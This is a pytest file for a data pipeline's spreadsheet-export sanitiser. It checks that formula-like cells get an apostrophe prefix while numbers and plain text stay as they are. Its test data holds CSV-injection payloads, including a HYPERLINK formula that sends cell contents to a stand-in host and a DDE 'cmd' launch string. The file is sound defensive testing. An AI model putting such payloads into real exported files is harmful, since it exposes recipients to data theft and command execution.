"""What a spreadsheet is given: text stays text, numbers stay numbers, to the letter."""

import pandas as pd
import pytest

from pipeline.pseudonyms import pseudonymise
from pipeline.spreadsheets import copy_table, inert

FORMULAS = [
    '=HYPERLINK("http://x.invalid?"&A1,"film")',
    "=1+1",
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "--1",
    "-1 film.png",
    " =1",
    '"=1',
    "＝1+1",
    "－1",
]
PARTS = {
    "a;=1+1": "a;'=1+1",
    "Mass|@SUM(1)|-1": "Mass|'@SUM(1)|-1",
    "=1;=2": "'=1;'=2",
    'a;"=1': "a;'\"=1",
    "a\t=1": "a\t'=1",
    "\t=1": "\t'=1",
    "\r\n =1": "\r\n' =1",
    "0.5;-0.25; -1": "0.5;-0.25;' -1",
}
NUMBERS = ["-0.250", "+1e-05", "-1", "-.5", "-3.", "-inf", "1e+300"]
TEXTS = ["", "n/a", "00000001_000.png", "a=b", "a-b", "a=b;c-d", "'=1", "Ångström, 1", 'a "b"']


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_is_kept_behind_an_apostrophe(text):
    assert inert(pd.DataFrame({"file": [text]}))["file"].tolist() == [f"'{text}"]


@pytest.mark.parametrize(("text", "shown"), PARTS.items())
def test_what_begins_a_cell_under_another_separator_is_text_there_too(text, shown):
    assert inert(pd.DataFrame({"file": [text]}))["file"].tolist() == [shown]


def test_numbers_and_other_texts_keep_their_letters():
    table = pd.DataFrame({"value": [*NUMBERS, *TEXTS, None, 1.5]}, dtype=object)
    pd.testing.assert_frame_equal(inert(table), table)


@pytest.mark.parametrize("salt", [None, b"salt"])
def test_a_copy_changes_formulas_and_ids_and_no_other_letter(tmp_path, salt):
    texts = [*FORMULAS, *PARTS, *NUMBERS, *TEXTS]
    table = pd.DataFrame({"image": texts, "finding": texts, "iou": "-0.250"})
    table.to_csv(tmp_path / "in.csv", index=False)
    copy_table(tmp_path / "in.csv", tmp_path / "out.csv", salt)
    found = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    expected = inert(table) if salt is None else inert(pseudonymise(table, salt))
    pd.testing.assert_frame_equal(found, expected, check_dtype=False)


def test_a_table_without_formulas_is_copied_to_the_byte(tmp_path):
    (tmp_path / "in.csv").write_bytes(b'image,iou\r\n"a.png",-0.250\r\n')
    copy_table(tmp_path / "in.csv", tmp_path / "out.csv", None)
    assert (tmp_path / "out.csv").read_bytes() == (tmp_path / "in.csv").read_bytes()
